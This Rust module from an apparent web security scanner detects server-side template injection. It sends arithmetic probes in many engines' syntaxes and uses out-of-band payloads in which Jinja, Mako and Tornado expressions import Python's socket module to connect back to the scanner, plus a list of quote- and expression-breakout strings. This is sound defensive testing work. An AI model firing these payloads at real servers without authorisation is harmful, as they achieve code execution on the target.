//! Server-side template injection: by the result of a computation that the template's engine makes, by a connection to us.
//!
//! Expressions are tried as text first, in the ways of many engines at once. Where the value stands inside of
//! an expression or statement already, text shows nothing; that is tried only where what ends an expression
//! changes the answer and a plain word does not.

use vedette_protocol::finding::{Confidence, FindingType, ShownBy};

use super::{Of, Test, canary, nothing_afterwards};
use crate::web::{
    call::{Call, Place},
    input::Payload,
    response::Response,
    trial::{Proof, Stop, Subject, Trial, Verdict},
};

pub(crate) const TEST: Test = Test {
    name: "template",
    of: Of::Input,
    budget: 24,
    judge,
    afterwards: nothing_afterwards,
};

fn judge(trial: &Trial<'_>) -> Verdict {
    for (form, single) in TEXTS {
        if !computes(trial, form, 0)? {
            continue;
        }
        // With other numbers, in the one way that it is.
        for (name, form) in *single {
            if computes(trial, form, 1)? {
                return Ok(Some(proof(ShownBy::ComputedOutput, name)));
            }
        }
    }
    let odd = trial.view(&format!("{}{ENDS}", trial.value()))?;
    let plain = trial.view(&canary(trial))?;
    // Where a plain word is the name of nothing, both fail alike.
    let fails = plain.status() >= 500 && trial.base_view().status() < 500;
    if odd == plain && !fails {
        return Ok(None);
    }
    for (name, form) in INSIDE {
        if computes(trial, form, 0)? && computes(trial, form, 1)? {
            return Ok(Some(proof(ShownBy::ComputedOutput, name)));
        }
    }
    Ok(None)
}

/// For what is rendered and never shown to who asked.
pub(super) fn calls(subject: &Subject) -> Vec<Call> {
    let call = |(name, spell): &(&'static str, Wrap)| {
        let (spell, value, left_alone) = (*spell, subject.value.clone(), subject.value.clone());
        Call::new(
            proof(ShownBy::Callback, name),
            move |place| Payload::Value(format!("{value}{}", spell(&connect(place)))),
            move |place| Payload::Value(format!("{left_alone}{}", connect(place))),
        )
    };
    CALLERS.iter().map(call).collect()
}

/// An expression of Python that connects, behind what an engine calls its own functions.
fn connect(place: Place) -> String {
    format!(
        "__import__(\"socket\").create_connection((\"{}\",{}),2)",
        place.address(),
        place.sum()
    )
}

/// An expression as a template has it.
type Wrap = fn(&str) -> String;

/// Engines that lead to a socket without a program of the system's. What one of two evaluates, the other takes for text.
const CALLERS: &[(&str, Wrap)] = &[
    ("Jinja or Mako", |connect| {
        format!("{{{{lipsum.__globals__.__builtins__.{connect}}}}}${{{connect}}}")
    }),
    ("Tornado", |connect| format!("{{{{{connect}}}}}")),
];

fn proof(shown_by: ShownBy, detail: &'static str) -> Proof {
    Proof {
        type_: FindingType::WebTemplateInjection,
        confidence: Confidence::Certain,
        shown_by,
        detail,
    }
}

/// Whether the product of the numbers comes out between two words, although it stands in no request.
fn computes(trial: &Trial<'_>, form: &str, round: usize) -> Result<bool, Stop> {
    let (one, other) = NUMBERS[round];
    let word = trial.token(if round == 0 { 60 } else { 61 });
    let expression = form
        .replace('A', &one.to_string())
        .replace('B', &other.to_string())
        .replace('W', &word);
    let reply = trial.reply(&format!("{}{expression}", trial.value()))?;
    Ok(shows(reply, &word, one * other))
}

/// Whether a number stands between two words, with or without marks between its thousands.
fn shows(reply: &Response, word: &str, number: u64) -> bool {
    let (text, number) = (reply.text(), number.to_string());
    text.match_indices(word).any(|(at, _)| {
        let rest = &text[at + word.len()..];
        let Some(end) = rest.find(word).filter(|end| *end <= NUMBER_LIMIT) else {
            return false;
        };
        let digits: String = rest[..end].chars().filter(char::is_ascii_digit).collect();
        let others = rest[..end]
            .chars()
            .all(|c| c.is_ascii_digit() || MARKS.contains(&c));
        others && digits == number
    })
}

/// A form, and the single ones that it is made of. `A` and `B` are numbers, `W` is a word.
type Text = (&'static str, &'static [(&'static str, &'static str)]);

const TEXTS: &[Text] = &[
    (
        "W{{A*B}}W${A*B}W#{A*B}W@(A*B)W",
        &[
            ("double braces", "W{{A*B}}W"),
            ("dollar and braces", "W${A*B}W"),
            ("number sign and braces", "W#{A*B}W"),
            ("at sign", "W@(A*B)W"),
        ],
    ),
    (
        // The blank ends the variable's name, where braces would be another engine's.
        "W<%=A*B%>W{A*B}W#set($v=A*B)$v W",
        &[
            ("percent tag", "W<%=A*B%>W"),
            ("single braces", "W{A*B}W"),
            ("set directive", "W#set($v=A*B)$v W"),
        ],
    ),
];
/// What ends strings, expressions and statements.
const ENDS: &str = "'\"}}%>${{";
/// Out of a string or an expression, and into one again.
const INSIDE: &[(&str, &str)] = &[
    ("string in double braces", "'}}W{{A*B}}W{{'"),
    ("string in double braces", "\"}}W{{A*B}}W{{\""),
    ("expression in double braces", "}}W{{A*B}}W{{1"),
    ("string behind a dollar", "'}W${A*B}W${'"),
    ("string behind a dollar", "\"}W${A*B}W${\""),
    ("expression behind a dollar", "}W${A*B}W${1"),
    ("statement", "' != 'W' %}W{{A*B}}W{% endif %}{% if '"),
    ("statement", "\" != \"W\" %}W{{A*B}}W{% endif %}{% if \""),
];
const NUMBERS: [(u64, u64); 2] = [(48_271, 20_393), (39_119, 51_047)];
const MARKS: [char; 7] = [',', '.', '\'', ' ', '\u{2019}', '\u{a0}', '\u{202f}'];
const NUMBER_LIMIT: usize = 24;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::web::response::Whole;
    use std::time::Duration;

    #[test]
    fn a_product_counts_between_words_alone() {
        let reply = |text: &str| Response {
            status: 200,
            headers: Vec::new(),
            body: text.as_bytes().to_vec(),
            whole: Whole::Yes,
            took: Duration::ZERO,
        };
        for right in [
            "xw984390503wx",
            "w984,390,503w",
            "ww984\u{a0}390\u{a0}503w",
            "w{1*2}w984390503w",
        ] {
            assert!(shows(&reply(right), "w", 984_390_503), "{right}");
        }
        for wrong in [
            "984390503",
            "w984390503",
            "w{{984390503}}w",
            "w984390504w",
            "w48271*20393w",
            "ww",
            "w",
        ] {
            assert!(!shows(&reply(wrong), "w", 984_390_503), "{wrong}");
        }
    }
}
